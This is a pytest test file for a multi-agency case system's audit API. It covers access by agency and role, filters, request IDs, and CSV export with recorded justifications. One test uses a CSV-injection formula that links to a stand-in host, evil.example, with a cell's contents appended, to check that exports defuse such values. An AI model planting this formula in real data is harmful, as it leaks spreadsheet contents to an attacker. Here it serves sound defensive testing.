"""The audit endpoints read what the services wrote: auditors see their agency's trail,
and a case's trail is for its owning agency's auditors and managers."""
import pytest
from rest_framework.test import APIClient

from cases.services import note_add


def client_for(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def test_auditor_reads_their_own_agencys_events_with_filters(cast, matrix_case):
    case = matrix_case("shared_contribute")
    note_add(actor=cast["liaison.officer"], case_id=case.pk, text="Seen in Algeciras too.")
    note_add(actor=cast["rtm.officer"], case_id=case.pk, text="Crew list requested.")
    auditor = client_for(cast["rtm.auditor"])

    events = auditor.get("/api/v1/audit/", {"case": str(case.pk), "operation": "collection"}).json()["results"]

    assert events, "the owner's writes are in the trail"
    # Acts on the agency's own case by anyone: the liaison bureau's note too.
    assert {event["actor"]["agency"] for event in events} == {"NL-CUS-RTM", "EU-LIA"}
    newest = events[0]
    assert newest["action"] == "note_add" and newest["actor"] == {
        "username": "rtm.officer", "agency": "NL-CUS-RTM", "role": "officer"}
    assert set(newest) >= {"id", "at", "operation", "actor", "object", "justification", "recipient",
                           "handling_code", "request_id"}
    by_actor = auditor.get("/api/v1/audit/", {"actor": "rtm.officer", "since": "2000-01-01T00:00:00Z"}).json()
    assert {event["actor"]["username"] for event in by_actor["results"]} == {"rtm.officer"}


def test_audit_list_is_for_auditors_only(cast):
    for username in ("rtm.officer", "rtm.admin", "liaison.officer"):
        response = client_for(cast[username]).get("/api/v1/audit/")
        assert response.status_code == 403
        assert response.json()["code"] == "auditors_only"
    assert APIClient().get("/api/v1/audit/").status_code == 401


def test_case_trail_shows_other_agencies_acts_to_the_owner(cast, matrix_case):
    case = matrix_case("shared_contribute")
    note_add(actor=cast["liaison.officer"], case_id=case.pk, text="Seen in Algeciras too.")

    trail = client_for(cast["rtm.auditor"]).get(f"/api/v1/cases/{case.pk}/audit/").json()["results"]

    assert trail[0]["actor"]["agency"] == "EU-LIA" and trail[0]["action"] == "note_add"
    assert trail[-1]["action"] == "case_create"


def test_request_id_and_address_are_recorded(cast, matrix_case):
    case = matrix_case("owned")
    client = client_for(cast["rtm.officer"])
    response = client.post(f"/api/v1/cases/{case.pk}/notes/", {"text": "Tagged"}, format="json",
                           HTTP_X_REQUEST_ID="req-1234567890")
    assert response["X-Request-ID"] == "req-1234567890"
    event = client_for(cast["rtm.auditor"]).get("/api/v1/audit/", {"case": str(case.pk)}).json()["results"][0]
    assert event["request_id"] == "req-1234567890"


@pytest.mark.parametrize("bounds", [
    {"since": "0001-01-01T00:00:00+05:00"},
    {"since": "0001-01-01T00:00:00"},  # read in Amsterdam's time of the day: before year 1 in UTC
    {"until": "9999-12-31T23:00:00-05:00"},
    {"since": "0001-01-01T00:00:00+05:00", "until": "9999-12-31T23:59:59-14:00"},
])
def test_times_beyond_utcs_range_bound_nothing_more(cast, matrix_case, bounds):
    case = matrix_case("owned")
    auditor = client_for(cast["rtm.auditor"])
    everything = auditor.get("/api/v1/audit/", {"case": str(case.pk)}).json()["results"]
    response = auditor.get("/api/v1/audit/", {"case": str(case.pk), **bounds})
    assert response.status_code == 200
    assert response.json()["results"] == everything and everything


def csv_of(response) -> list[list[str]]:
    import csv
    import io

    assert response.status_code == 200 and response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.mark.parametrize("asked", [{"HTTP_ACCEPT": "text/csv"}, {"format": "csv"}])
def test_the_list_answers_csv_when_asked_and_records_the_export(cast, matrix_case, asked):
    from audit.models import AuditEvent

    auditor = client_for(cast["rtm.auditor"])
    query = {key: value for key, value in asked.items() if key == "format"}
    headers = {key: value for key, value in asked.items() if key != "format"}
    refused = auditor.get("/api/v1/audit/", {**query, "operation": "disclosure"}, **headers)
    assert refused.status_code == 403 and refused["Content-Type"] == "application/json"
    assert refused.json()["code"] == "justification_required"
    bad = auditor.get("/api/v1/audit/", {**query, "since": "yesterday"}, HTTP_X_JUSTIFICATION="Audit", **headers)
    assert bad.status_code == 400 and "since" in bad.json()
    rows = csv_of(auditor.get("/api/v1/audit/", {**query, "operation": "disclosure"},
                              HTTP_X_JUSTIFICATION="Supervisor request 2026-115", **headers))
    assert rows[0][:3] == ["id", "at", "operation"] and rows[1:] and {row[2] for row in rows[1:]} == {"disclosure"}
    record = AuditEvent.objects.filter(action="audit_export").latest("id")
    assert (record.justification, record.changes["filters"]) == ("Supervisor request 2026-115",
                                                                 {"operation": "disclosure"})
    assert auditor.get("/api/v1/audit/")["Content-Type"] == "application/json"  # JSON stays the default
    unknown = auditor.get("/api/v1/audit/", {"format": "xlsx"})
    assert unknown.status_code == 400 and "format" in unknown.json()


def test_a_cell_a_spreadsheet_would_run_is_defused(cast, matrix_case):
    from cases.services import case_share

    formula = '=HYPERLINK("http://evil.example/?"&A1,"Open")'
    case_share(actor=cast["rtm.officer"], case_id=matrix_case("owned").pk, agency_code="BE-CUS-ANR", level="view",
               justification=formula)
    rows = csv_of(client_for(cast["rtm.auditor"]).get("/api/v1/audit/export/", {"operation": "disclosure"},
                                                      HTTP_X_JUSTIFICATION="Check"))
    justification = rows[0].index("justification")
    assert "'" + formula in [row[justification] for row in rows[1:]]
    assert formula not in [row[justification] for row in rows[1:]]


def test_head_sends_only_headers_and_records_no_export_and_the_format_waits_for_the_caller(cast):
    from audit.models import AuditEvent

    exports = AuditEvent.objects.filter(action="audit_export")
    before = exports.count()
    head = client_for(cast["rtm.auditor"]).head("/api/v1/audit/", {"format": "csv"})
    assert (head.status_code, head["Content-Type"], head.content) == (200, "text/csv; charset=utf-8", b"")
    assert exports.count() == before
    assert APIClient().get("/api/v1/audit/", {"format": "xlsx"}).status_code == 401
    assert client_for(cast["rtm.officer"]).get("/api/v1/audit/", {"format": "xlsx"}).status_code == 403
